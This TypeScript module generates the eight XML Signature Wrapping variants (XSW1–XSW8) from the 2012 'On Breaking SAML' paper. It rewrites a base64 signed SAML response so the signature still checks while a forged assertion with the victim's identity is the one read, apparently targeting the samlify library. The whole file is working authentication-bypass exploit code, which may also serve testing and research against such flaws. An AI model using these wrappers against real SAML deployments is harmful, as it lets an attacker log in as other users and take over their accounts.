/** A response of which parts are moved, so that the signature covers another part than the one that is read. */
type Wrap = (document: SignedDocument) => string;

/** The parts of a response with signatures of samlify. */
interface SignedDocument {
  /** The response without its own signature. */
  response: string;
  responseSignature: string;
  /** The signed assertion. */
  assertion: string;
  assertionSignature: string;
  /** The assertion without its signature. */
  bare: string;
  /** The bare assertion of another person, with another ID. */
  forged: string;
}

const between = (text: string, start: string, end: string): string => {
  const first = text.indexOf(start);
  return first === -1 ? "" : text.slice(first, text.indexOf(end, first) + end.length);
};

const signatureIn = (text: string) => between(text, "<ds:Signature ", "</ds:Signature>");

function partsOf(xml: string, { victim, attacker }: { victim: string; attacker: string }) {
  const assertion = between(xml, "<saml:Assertion ", "</saml:Assertion>");
  const assertionSignature = signatureIn(assertion);
  const bare = assertion.replace(assertionSignature, "");
  const responseSignature = signatureIn(xml.replace(assertion, ""));
  return {
    response: xml.replace(responseSignature, ""),
    responseSignature,
    assertion,
    assertionSignature,
    bare,
    forged: bare.replace(' ID="_a', ' ID="_evil').replaceAll(attacker, victim),
  };
}

/** A signature with something in an Object. */
const holding = (signature: string, content: string) =>
  signature.replace("</ds:Signature>", `<ds:Object>${content}</ds:Object></ds:Signature>`);

const afterIssuer = (element: string, added: string) =>
  element.replace("</saml:Issuer>", `</saml:Issuer>${added}`);

const forgedResponse = ({ response, assertion, forged }: SignedDocument) =>
  response.replace(' ID="_r', ' ID="_evil-r').replace(assertion, forged);

/** The eight variants of "On Breaking SAML: Be Whoever You Want to Be" (USENIX Security 2012), as SAML Raider makes them. */
export const wraps: Readonly<Record<string, Wrap>> = {
  "XSW1: the signed response is in the signature of a forged one": (document) =>
    afterIssuer(forgedResponse(document), holding(document.responseSignature, document.response)),
  "XSW2: the signed response is beside its signature in a forged one": (document) =>
    afterIssuer(forgedResponse(document), document.response + document.responseSignature),
  "XSW3: a forged assertion is before the signed one": ({ response, assertion, forged }) =>
    response.replace(assertion, forged + assertion),
  "XSW4: the signed assertion is in a forged one": ({ response, assertion, forged }) =>
    response.replace(
      assertion,
      forged.replace("</saml:Assertion>", `${assertion}</saml:Assertion>`),
    ),
  "XSW5: a forged assertion has the signature of one that follows": (document) =>
    document.response.replace(
      document.assertion,
      afterIssuer(document.forged, document.assertionSignature) + document.bare,
    ),
  "XSW6: a forged assertion has the signature with the signed one in it": (document) =>
    document.response.replace(
      document.assertion,
      afterIssuer(document.forged, holding(document.assertionSignature, document.bare)),
    ),
  "XSW7: a forged assertion is in extensions": ({ response, assertion, forged }) =>
    response.replace(assertion, `<samlp:Extensions>${forged}</samlp:Extensions>${assertion}`),
  "XSW8: the signed assertion is in an object of the signature": (document) =>
    document.response.replace(
      document.assertion,
      afterIssuer(
        document.forged.replace('ID="_evil', 'ID="_a'),
        holding(document.assertionSignature, document.bare),
      ),
    ),
};

/** Replaces the person of a signed response in base64. */
export function wrapped(
  response: string,
  wrap: Wrap,
  people: { victim: string; attacker: string },
): string {
  const xml = Buffer.from(response, "base64").toString();
  return Buffer.from(wrap(partsOf(xml, people))).toString("base64");
}
